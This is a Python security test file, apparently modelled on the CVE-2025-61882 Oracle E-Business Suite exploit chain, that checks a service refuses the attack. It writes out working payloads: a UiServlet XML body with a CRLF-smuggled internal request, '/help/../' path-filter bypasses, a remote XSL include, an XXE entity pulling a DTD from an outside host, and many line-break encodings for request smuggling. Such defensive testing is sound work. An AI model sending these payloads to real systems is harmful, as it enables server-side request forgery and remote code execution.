"""CVE-2025-61882: Oracle E-Business Suite, July to October 2025 (the same group's next target)

There: a servlet fetched an address of the attacker's choice, with line breaks in it, so that a second request reached an inner door; a path with `/help/../` went around its
filter; a style sheet from the attacker's server was then run.
Needs: here something that fetches, an inner HTTP door, or a style sheet language.
Here: P1, P6: a worker can open no connection, the doors are processes without an inner one, and no content is interpreted.
"""


def test_the_chain(house):
    with house.attack(inside="thief") as thief:
        token = thief.log_in()
        inner = f"http://{house.call}/OA_HTML/help/../ieshostedsurvey.jsp HTTP/1.2&#13;&#10;Host: {house.call}&#13;&#10;User-Agent: x&#13;&#10;Connection: keep-alive&#13;&#10;&#13;&#10;POST /"
        xml = f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><initialize><param name=\"init_was_saved\">test</param><param name=\"return_url\">{inner}</param><param name=\"ui_def_id\">0</param></initialize>"
        style = f"<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:include href=\"http://{house.call}/x.xsl\"/></xsl:stylesheet>"
        entity = f"<!DOCTYPE x [<!ENTITY % y SYSTEM \"http://{house.call}/x.dtd\"> %y;]><x/>"
        for who in (None, token):
            for path in ("/OA_HTML/configurator/UiServlet", "/OA_HTML/SyncServlet", "/OA_HTML/runforms.jsp", "/api/v1/token", "/api/v1/folders/1/subfolders"):
                thief.refused("POST", path, form={"redirectFromJsp": "1", "getUiType": xml}, token=who)
                for body in (xml, style, entity):
                    thief.refused("POST", path, "Content-Type: application/xml", "CSRF-XHR: YES", "FETCH-CSRF-TOKEN: 1", body=body, token=who)
            for path in ("/OA_HTML/help/../ieshostedsurvey.jsp", "/OA_HTML/OA.jsp?page=/oracle/apps/xdo/oa/template/webui/TemplatePreviewPG&TemplateCode=TMP&TemplateType=XSL-TEXT", "/OA_HTML/support/state/content/destination./x"):
                thief.refused("GET", path, token=who)
        with thief.sftp() as c:
            for name, body in (("x.xsl", style), ("x.xml", entity), ("x.svg", entity)):
                c.sftp.put(name, body.encode())


def test_line_breaks_that_become_a_request(house):
    """Encoded, bare and doubled, in a target and in fields: never a second answer."""
    with house.attack() as thief:
        for end in ("%0d%0a", "\r", "\n", "%0a", "&#13;&#10;", "\u560d\u560a", "\x85", "%E5%98%8A%E5%98%8D"):
            second = f"{end}{end}GET /api/v1/info HTTP/1.1{end}Host: x{end}{end}"
            for data in (f"GET /api/v1/files{second.replace(' ', '%20')} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", f"GET /api/v1/files HTTP/1.1\r\nHost: x\r\nX-A: b{second}\r\nConnection: close\r\n\r\n"):
                reply = thief.send(data.encode())
                assert reply.raw.count(b"HTTP/1.1 ") <= 1 and b"HTTP/1.1 200" not in reply.raw, (end, reply)
